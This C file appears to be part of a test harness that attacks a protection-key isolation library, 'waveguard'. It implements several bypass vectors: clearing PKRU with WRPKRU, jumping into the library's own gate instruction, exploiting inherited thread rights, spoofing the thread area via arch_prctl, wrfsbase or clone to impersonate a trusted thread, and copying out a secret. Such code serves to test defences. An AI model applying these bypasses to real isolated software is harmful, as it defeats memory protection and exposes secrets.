/* SPDX-License-Identifier: Apache-2.0 */
/* Ways to the rights themselves: the register, the gate, the identity of a thread. */
#include "attack.h"

#include <asm/prctl.h>
#include <pthread.h>
#include <sched.h>

#include <waveguard/waveguard.h>

/* The library's inside, as an attacker who knows it would use it. */
extern char wg_gate_pku[];

static void wrpkru(uint32_t rights) { __asm__ volatile("wrpkru" : : "a"(rights), "c"(0), "d"(0) : "memory"); }

void open_all_keys(void) { wrpkru(0); }

static bool by_wrpkru(void) {
	open_all_keys();
	return load();
}

/* Goes to the place where the gate opens a domain's key, with the rights to all. */
static bool by_gate(void) {
	int n = 0;
	for (char *at = wg_gate_pku; at < wg_gate_pku + PAGE; at++)
		if (memcmp(at, "\x0f\x01\xef", 3) == 0 && n++ == 1)
			__asm__ volatile("xor %%ecx, %%ecx\n xor %%edx, %%edx\n xor %%eax, %%eax\n xor %%ebx, %%ebx\n jmp *%0" : : "r"(at) : "rax", "rbx", "rcx", "rdx", "memory");
	return false;
}

/* A thread that is made inside has the rights of the domain, and keeps them when the domain has lost its key. */
static void *stray(void *unused) {
	(void)unused;
	while (lent_on == 0)
		usleep(1000);
	lent_on = copied(secret, LENGTH) ? 0 : -1;
	return NULL;
}

static bool by_stray(void) {
	pthread_t t;
	return pthread_create(&t, NULL, stray, NULL) == 0;
}

static char stack[65536] __attribute__((aligned(64)));
static volatile int done;

static void set_area(unsigned long to) { syscall(SYS_arch_prctl, ARCH_SET_FS, to); }
static void write_area(unsigned long to) { __asm__ volatile("wrfsbase %0" : : "r"(to)); }

static unsigned long own_area(void) {
	unsigned long at;
	__asm__ volatile("mov %%fs:0, %0" : "=r"(at));
	return at;
}

/* Passes through the gate as the thread that is inside vault, which the gate knows by its thread area,
 * and comes back with that one's rights. Runs on a stack that is open to all. */
__attribute__((noinline)) static void impersonate(void (*area)(unsigned long)) {
	unsigned long own = own_area();
	area(victim_area);
	(void)wg_status_of(WG_EPOCH);
	for (unsigned i = 0; i < LENGTH; i++)
		got[i] = secret[i];
	area(own);
	(void)wg_status_of(WG_EPOCH);
	done = 1;
}

static bool on_open_stack(void (*area)(unsigned long)) {
	__asm__ volatile("mov %%rsp, %%r12\n mov %0, %%rsp\n call *%1\n mov %%r12, %%rsp"
			 : : "r"(stack + sizeof stack), "r"(impersonate), "D"(area)
			 : "rax", "rcx", "rdx", "rsi", "r8", "r9", "r10", "r11", "r12", "memory");
	return done;
}

static bool by_arch_prctl(void) { return on_open_stack(set_area); }
static bool by_wrfsbase(void) { return on_open_stack(write_area); }

/* A thread with the thread area of the one inside. */
static int twin(void *unused) {
	(void)unused;
	(void)wg_status_of(WG_EPOCH);
	for (unsigned i = 0; i < LENGTH; i++)
		got[i] = secret[i];
	done = 1;
	syscall(SYS_exit, 0);
	return 0;
}

static bool by_clone(void) {
	const int flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM | CLONE_SETTLS;
	if (clone(twin, stack + sizeof stack, flags, NULL, NULL, (void *)victim_area, NULL) < 0)
		return false;
	for (int i = 0; i < 5000 && !done; i++)
		usleep(1000);
	return done;
}

const struct vector key_vectors[] = {
	{.name = "wrpkru", .attempt = by_wrpkru},
	{.name = "gate-wrpkru", .attempt = by_gate},
	{.name = "stray-thread", .attempt = by_stray, .kind = LENDS_ON},
	{.name = "arch_prctl-fs", .attempt = by_arch_prctl, .kind = VICTIM},
	{.name = "wrfsbase", .attempt = by_wrfsbase, .kind = VICTIM},
	{.name = "clone-tls", .attempt = by_clone, .kind = VICTIM},
	{0},
};
